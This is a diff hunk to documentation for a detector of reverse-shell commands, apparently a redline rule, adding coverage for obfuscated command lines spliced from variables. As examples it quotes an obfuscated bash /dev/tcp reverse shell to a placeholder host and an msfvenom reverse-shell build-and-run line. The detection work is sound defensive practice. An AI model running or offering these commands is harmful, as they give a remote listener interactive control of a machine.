@@ -15,7 +15,9 @@ What it catches
     C/C++ (POSIX and Winsock), PowerShell `TcpClient` with `iex` or a redirected `Process`,
     `xterm -display`. Also a payload generator's remote-shell payload built and run on the same
     command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`): running it
-    opens the shell.
+    opens the shell. A command line glued together from variables that hold its pieces
+    (`a=ba;b=sh;c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`) is read spelled out
+    (`spliced.py`).
 
 Why it is a redline (RL-PERSISTENCE)
     It gives whoever listens at the other end interactive control of the machine: the basic
